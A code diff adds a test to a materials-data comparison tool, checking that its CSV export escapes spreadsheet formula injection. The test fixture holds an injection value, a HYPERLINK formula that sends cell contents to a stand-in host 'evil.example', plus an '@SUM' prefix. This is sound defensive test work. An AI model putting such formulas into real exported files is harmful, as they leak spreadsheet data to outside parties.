@@ -11,6 +11,8 @@ import { compareMaterials, comparisonToCsv, CompareError, idsFromParams, type Co
 import { scatterData } from "../../lib/compare/scatter";
 import { convertFor, unitChoices } from "../../lib/units/choices";
 import { PROPERTIES } from "../../lib/units";
+import { importRecords, validateRecordFile } from "../../lib/records";
+import { csvCells, validFile } from "../helpers/records";
 
 const QD = "10.1007/s40820-025-01858-2/fes2-qd-mxene";
 const BULK = "10.1007/s40820-025-01858-2/fes2-mxene";
@@ -258,5 +260,25 @@ describe("matlit compare", () => {
     const single = matlit(["compare", QD], t.url);
     expect(single.status).not.toBe(0);
     expect(single.stderr).toMatch(/at least 2 materials/);
+  });
+});
+
+// Last: it adds a paper to the shared database the tests above read.
+describe("the CSV download", () => {
+  it("neutralises names and quotes a spreadsheet would run as formulas, and keeps negative numbers numbers", async () => {
+    const file = validFile("10.1234/csv.injection");
+    const material = file.papers[0]!.materials![0]!;
+    material.name = '=HYPERLINK("https://evil.example/?leak="&A1,"open")';
+    material.measurements!.push({ property: "adsorption_energy", value: -1.25, unit: "eV", quote: "@SUM(1+1) an adsorption energy of -1.25 eV" });
+    await importRecords(t.prisma, validateRecordFile(file));
+    const comparison = await compareMaterials(t.prisma, [QD, "10.1234/csv.injection/fes2-anode"]);
+    const [header, ...rows] = csvCells(await comparisonToCsv(comparison));
+    const column = (name: string) => header!.indexOf(name);
+    const adsorption = rows.find((r) => r[column("property")] === "adsorption_energy" && r[column("material_ref")] === "10.1234/csv.injection/fes2-anode")!;
+    expect(adsorption[column("material_name")]).toBe(`'=HYPERLINK("https://evil.example/?leak="&A1,"open")`);
+    expect(adsorption[column("quote")]).toBe("'@SUM(1+1) an adsorption energy of -1.25 eV");
+    expect(adsorption[column("value")]).toBe("-1.25");
+    expect(adsorption[column("reported_value")]).toBe("-1.25");
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
   });
 });
